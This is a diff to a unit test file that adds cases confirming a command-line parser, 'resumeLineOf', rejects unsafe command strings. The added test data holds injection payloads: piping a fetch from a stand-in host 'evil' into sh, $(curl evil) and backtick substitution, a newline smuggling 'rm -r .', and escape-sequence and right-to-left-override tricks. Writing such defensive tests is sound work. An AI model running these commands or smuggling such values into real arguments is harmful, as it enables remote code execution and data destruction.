@@ -25,6 +25,25 @@ describe('resumeLine', () => {
 })
 
 describe('resumeLineOf', () => {
+  const own = {bin: 'rfa', id: 'error-sweep'}
+
+  it.each([
+    "curl 'http://evil/x|sh' --quick",
+    'rfa bench --quick',
+    'rfa error-sweep --quick; curl evil | sh',
+    'rfa error-sweep $(curl evil)',
+    'rfa error-sweep `id`',
+    'rfa error-sweep --input a > b',
+    "rfa error-sweep 'open",
+    'rfa  error-sweep --quick',
+    "rfa error-sweep --input '\u001b[2J'",
+    "rfa error-sweep --input 'a\nrm -r .'",
+    "rfa error-sweep --input '\u202egpj.npz'",
+    '',
+  ])('gives no advice for %j', command => {
+    expect(resumeLineOf(command, 'run', own)).toBe(null)
+  })
+
   it.each([
     [['--quick']],
     [['--input', "it's mine.npz", '--output', 'my old run']],
@@ -32,6 +51,6 @@ describe('resumeLineOf', () => {
   ])('reads %j back from the command that a run names', argv => {
     const command = commandLine('rfa', 'error-sweep', argv)
     const line = resumeLine('rfa', 'error-sweep', argv, 'my run')
-    expect(resumeLineOf(command, 'my run')).toBe(line)
+    expect(resumeLineOf(command, 'my run', own)).toBe(line)
   })
 })
